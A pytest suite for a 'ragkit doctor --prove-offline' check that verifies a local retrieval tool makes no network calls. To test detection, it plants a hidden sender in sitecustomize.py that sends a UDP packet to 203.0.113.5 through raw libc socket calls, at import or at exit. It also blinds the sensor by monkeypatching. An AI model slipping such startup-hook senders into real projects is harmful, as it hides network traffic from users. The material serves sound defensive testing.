"""`ragkit doctor --prove-offline`: it proves, finds a planted sender, and knows when it proves nothing."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from dataclasses import asdict
from pathlib import Path

import pytest

from ragkit.doctor import judging
from ragkit.doctor.attestation import source_digest
from ragkit.doctor.offline import planned, run_proof
from ragkit.doctor.sensor.calls import INTERNET, SEALED, TO_LOCAL
from ragkit.doctor.sensor.enclosure import nothing_leads_out
from ragkit.doctor.workload import Plan
from ragkit.models import ModelStore, default_models_folder, load_registry
from ragkit.types import Step
from ragkit.types.doctor import PhaseDone, Proof

ROOT = Path(__file__).parents[2]
pytestmark = [
    pytest.mark.skipif(sys.platform != "linux", reason="the sensor is Linux's"),
    pytest.mark.real,
]
IDLE = 0.3
PLANTED = """
import atexit, ctypes, socket, struct, sys

def send(port):
    library = ctypes.CDLL(None)
    opened = library.socket(2, 2, 0)
    place = struct.pack("=HH4s8x", 2, socket.htons(port), bytes([203, 0, 113, 5]))
    library.sendto(opened, b"x", 1, 0, place, 16)

if "ragkit.doctor.unguarded" in sys.orig_argv and {where!r} in sys.orig_argv:
    {how}
"""
REPLACED = """
import sys
{setup}
from ragkit.doctor import proof
proof.main()
"""
BLIND = (
    "from ragkit.doctor.sensor.capture import Capture\n"
    "Capture.taken = lambda self: self._socket and iter(())"
)
INGEST_ONLY = (
    "from ragkit.doctor.workload import PIPELINE, Workload\n"
    "from ragkit.types.doctor import StepDone\n"
    "Workload._commands = lambda self: iter([['ingest', PIPELINE]])\n"
    "Workload._later_commands = lambda self: iter(())\n"
    "Workload.stay = lambda self, seconds, on_idle: StepDone('stay open', 0, 0.0)"
)
ONE_STEP = """
import socket, subprocess, sys
from ragkit.doctor.workload import Workload
from ragkit.errors import NotReady
from ragkit.types.doctor import StepDone

def steps(self):
    {step}
    yield "ingest", StepDone("ingest", 0, 0.0), '{{"unreadable": []}}'
    {then}

Workload.prepare = lambda self: None
Workload.callers = lambda self: {{}}
Workload.steps = steps
Workload.stay = lambda self, seconds, on_idle: StepDone("stay open", 0, 0.0)
"""
LEAVES_ONE = (
    "self.guarded or subprocess.Popen(['sleep', '30'], stdout=subprocess.DEVNULL, "
    "stderr=subprocess.DEVNULL)"
)
SENDS = (
    "subprocess.run([sys.executable, '-c', 'import socket; "
    'socket.socket(type=2).sendto(b"x", ("203.0.113.5", 4711))\'])'
)
REFUSED = (
    "from ragkit.doctor.sensor import enclosure\n"
    "def refused(kernel): raise enclosure.CannotEnclose('refused', 'a remedy')\n"
    "enclosure._leave = refused"
)


def tell_nobody(step: Step) -> None:
    """Nobody asked."""


@pytest.fixture(scope="module")
def plan(starter_models: dict[str, Path]) -> Plan:
    """The main commands over few formats, without the language model."""
    models = ModelStore(default_models_folder(), load_registry())
    whole, _ = planned(Path("there-is-none.yaml"), models)
    return Plan(whole.models, whole.embedder, None, whole=False)


def proved(plan: Plan, idle: float = IDLE) -> Proof:
    proof = run_proof(plan, {"a-model": "its digest"}, idle, tell_nobody)
    if "No sensor can be made here" in proof.reason:
        pytest.skip(proof.reason)
    return proof


def phase_of(proof: Proof, name: str) -> PhaseDone:
    return next(phase for phase in proof.phases if phase.name == name)


def test_the_work_sends_nothing_without_the_guard_and_works_with_it(plan: Plan) -> None:
    proof = proved(plan)
    assert (proof.verdict, proof.remedy, proof.sent) == ("proved", "", ()), proof.reason
    control, *others = proof.phases
    needed = {each.way for each in control.tried if each.needed}
    assert all(each.seen for each in control.tried if each.needed)
    assert set(judging.still_open(control.tried)) >= needed, "without the guard all are open"
    assert [phase.name for phase in others] == list(judging.QUIET)
    commands = [step.name.split()[0] for step in phase_of(proof, judging.GUARDED).steps]
    assert {"ingest", "ask", "nightly", "status"} <= set(commands)
    assert phase_of(proof, judging.GUARDED).level.startswith(("level A", "level B"))
    assert phase_of(proof, judging.UNGUARDED).level.startswith("level D")
    sealed = phase_of(proof, judging.CONTROL_SEALED).tried
    assert all(each.answer and not each.seen for each in sealed)
    guarded = phase_of(proof, judging.GUARDED).steps
    assert all(step.calls and step.calls[SEALED] > 0 for step in guarded)
    unguarded = phase_of(proof, judging.UNGUARDED)
    asked = sum(count for caller, count in unguarded.callers.items() if caller.endswith(", made"))
    calls = unguarded.calls or {}
    assert asked == calls[INTERNET], "each socket has somebody who asked for it"
    assert sum(unguarded.services.values()) == calls[TO_LOCAL]
    assert proof.facts["ragkit"]["sha256 of all source files"] == source_digest()[0]
    assert proof.facts["models (sha256)"] == {"a-model": "its digest"}
    assert "chromadb" in proof.facts["libraries"]


@pytest.mark.parametrize(
    ("where", "how", "phase", "setup"),
    [
        ("ingest", "send(4711)", judging.UNGUARDED, INGEST_ONLY),
        pytest.param(
            "ragkit.doctor.resident",
            "atexit.register(send, 4711)",
            judging.IDLE,
            "",
            marks=pytest.mark.long,
        ),
    ],
    ids=["at import", "at the end of the process"],
)
def test_a_planted_sender_is_found(
    plan: Plan, home: Path, where: str, how: str, phase: str, setup: str
) -> None:
    (home / "sitecustomize.py").write_text(PLANTED.format(where=where, how=how), encoding="utf-8")
    proof = with_replaced(setup, plan, home / "work", path=home)
    if "No sensor can be made here" in proof.reason:
        pytest.skip(proof.reason)
    assert proof.verdict == "violated"
    (sent,) = proof.sent
    assert (sent.protocol, sent.destination, sent.port) == ("UDP", "203.0.113.5", 4711)
    assert sent.phase == phase


def with_replaced(setup: str, plan: Plan, folder: Path, path: Path = ROOT) -> Proof:
    """The proof's own process with a part of it taken out. path: where Python looks first."""
    request = {"folder": str(folder), "idle": IDLE, "plan": asdict(plan), "models": {}}
    ended = subprocess.run(
        [sys.executable, "-c", REPLACED.format(setup=setup)],
        input=json.dumps(request),
        capture_output=True,
        text=True,
        timeout=600,
        env={**os.environ, "PYTHONPATH": os.pathsep.join((str(path), str(ROOT)))},
    )
    assert ended.returncode == 0, ended.stderr
    return Proof.from_dict(json.loads(ended.stdout.splitlines()[-1])["proof"])


def test_a_blind_sensor_proves_nothing(plan: Plan, home: Path) -> None:
    proved_here = with_replaced(
        "", Plan(plan.models, {"model": "none"}, None, whole=False), home / "a"
    )
    if "No sensor can be made here" in proved_here.reason:
        pytest.skip(proved_here.reason)
    proof = with_replaced(BLIND, plan, home)
    assert proof.verdict == "not provable"
    assert "did not see all of the control" in proof.reason
    assert "native TCP" in proof.reason
    assert len(proof.phases) == 1, "the workload is not run for nothing"


def test_without_namespaces_it_says_what_would_help(plan: Plan, home: Path) -> None:
    proof = with_replaced(REFUSED, plan, home)
    assert (proof.verdict, proof.remedy) == ("not provable", "a remedy")
    assert "refused" in proof.reason
    assert proof.facts["ragkit"]["version"]


def test_a_workload_that_fails_proves_nothing(plan: Plan) -> None:
    broken = Plan(plan.models, {"model": "there-is-no-such-model"}, None, whole=False)
    proof = proved(broken)
    assert proof.verdict == "not provable"
    assert "ragkit ingest ended with exit code 2" in proof.reason


def test_what_was_sent_before_a_command_failed_counts(plan: Plan, home: Path) -> None:
    setup = ONE_STEP.format(step=SENDS, then="raise NotReady('the next command failed')")
    proof = with_replaced(setup, plan, home)
    if "No sensor can be made here" in proof.reason:
        pytest.skip(proof.reason)
    assert proof.verdict == "violated"
    assert [sent.port for sent in proof.sent] == [4711]


@pytest.mark.parametrize(("step", "is_left"), [(LEAVES_ONE, True), ("pass", False)])
def test_a_process_that_goes_on_after_the_work_proves_nothing(
    plan: Plan, home: Path, step: str, is_left: bool
) -> None:
    proof = with_replaced(ONE_STEP.format(step=step, then="return"), plan, home)
    if "No sensor can be made here" in proof.reason:
        pytest.skip(proof.reason)
    assert ("still running" in proof.reason) is is_left
    assert proof.verdict == ("not provable" if is_left else "violated"), "nothing was sealed"


def test_interrupted_it_leaves_nothing(plan: Plan, home: Path) -> None:
    process = subprocess.Popen(
        [sys.executable, "-m", "ragkit", "doctor", "--prove-offline", "--idle", "1"],
        cwd=home,
        env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(home)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    until = time.monotonic() + 60
    while not list(home.glob("ragkit-proof-*/unguarded/store")) and time.monotonic() < until:
        if process.poll() is not None:
            out, errors = process.communicate()
            if b"No sensor can be made here" in out:
                pytest.skip("no sensor here")
            pytest.fail(f"it ended before it could be interrupted: {errors.decode()}")
        time.sleep(0.05)
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=30)
    assert process.returncode == 130
    assert list(home.glob("ragkit-proof-*")) == []


def test_the_guard_is_left_out_only_where_nothing_leads_out(home: Path) -> None:
    ended = subprocess.run(
        [sys.executable, "-m", "ragkit.doctor.unguarded", "ragkit", "status"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        env={**os.environ, "HOME": str(home)},
    )
    if nothing_leads_out():
        pytest.skip("this machine has no network anyway")
    assert ended.returncode == 1
    assert "leads nowhere" in ended.stderr
    assert ended.stdout == ""


@pytest.mark.long
def test_the_whole_proof_with_an_idle_minute(starter_models: dict[str, Path], home: Path) -> None:
    page = home / "proof.html"
    command = ["doctor", "--prove-offline", "--idle", "60", "--output", str(page), "--json"]
    ended = subprocess.run(
        [sys.executable, "-m", "ragkit", *command],
        cwd=home,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(home)},
        timeout=3600,
    )
    proof = Proof.from_dict(json.loads(ended.stdout))
    assert (ended.returncode, proof.verdict) == (0, "proved"), proof.reason
    assert phase_of(proof, judging.IDLE).seconds >= 60
    assert "Proved" in page.read_text(encoding="utf-8")
    assert list(home.glob("ragkit-proof-*")) == []
